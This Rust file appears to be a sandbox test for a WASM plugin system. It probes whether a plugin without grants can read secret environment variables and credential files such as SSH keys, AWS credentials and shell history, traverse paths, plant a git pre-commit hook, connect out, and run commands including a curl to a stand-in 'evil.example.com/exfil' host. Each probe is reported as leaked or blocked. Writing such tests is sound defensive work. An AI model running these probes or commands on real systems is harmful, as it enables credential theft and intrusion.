//! Tries what no plugin without grants may do, and says of each probe whether it was blocked. Exit code 1: one was not.

use std::fs;
use std::process::Command;

use fledge::{exit, output, recv};

const VARIABLES: [&str; 14] = [
    "GITHUB_TOKEN",
    "GH_TOKEN",
    "OPENAI_API_KEY",
    "ANTHROPIC_API_KEY",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_ACCESS_KEY_ID",
    "DATABASE_URL",
    "FLEDGE_GITHUB_TOKEN",
    "NPM_TOKEN",
    "DOCKER_PASSWORD",
    "HOME",
    "PATH",
    "USER",
    "SHELL",
];
const READ: [&str; 18] = [
    "/etc/hosts",
    "/etc/passwd",
    "/tmp",
    "/root/.ssh/id_ed25519",
    "/root/.ssh/id_rsa",
    "/root/.aws/credentials",
    "/root/.config/gh/hosts.yml",
    "/root/.git-credentials",
    "/root/.netrc",
    "/root/.npmrc",
    "/root/.kube/config",
    "/root/.docker/config.json",
    "/root/.zsh_history",
    "/root/.bash_history",
    "../../../etc/hosts",
    "../../../etc/passwd",
    "../../../../root/.ssh/id_ed25519",
    "../../.ssh/id_ed25519",
];
const LIST: [&str; 6] = ["/", "/tmp", "/home", "/Users", "/root", "/etc"];
const WRITE: [&str; 3] = [
    "/tmp/canary-wasm-test",
    "canary-wasm-test",
    ".git/hooks/pre-commit",
];
const CONNECT: [&str; 2] = ["8.8.8.8:53", "1.1.1.1:443"];
const SPAWN: [&[&str]; 4] = [
    &["echo"],
    &["curl", "https://evil.example.com/exfil"],
    &["crontab", "-l"],
    &["cat", "/etc/passwd"],
];
const SYSTEM: [&[&str]; 3] = [&["pbpaste"], &["ps", "aux"], &["whoami"]];

fn main() {
    recv(64 * 1024);
    let mut leaked = false;
    let mut probe = |name: String, got: bool| {
        leaked |= got;
        output(&format!(
            "{} {name}",
            if got { "LEAKED" } else { "BLOCKED" }
        ));
    };
    for name in VARIABLES {
        probe(format!("env {name}"), std::env::var_os(name).is_some());
    }
    for path in READ {
        probe(format!("read {path}"), fs::read(path).is_ok());
    }
    for path in LIST {
        probe(format!("list {path}"), fs::read_dir(path).is_ok());
    }
    for path in WRITE {
        probe(format!("write {path}"), fs::write(path, "canary").is_ok());
    }
    for address in CONNECT {
        let connected = std::net::TcpStream::connect(address);
        probe(format!("connect {address}"), connected.is_ok());
    }
    for words in SPAWN.into_iter().chain(SYSTEM) {
        let ran = Command::new(words[0]).args(&words[1..]).output();
        probe(format!("run {}", words.join(" ")), ran.is_ok());
    }
    output(&format!("{} variables in all", std::env::vars_os().count()));
    exit(leaked.into())
}
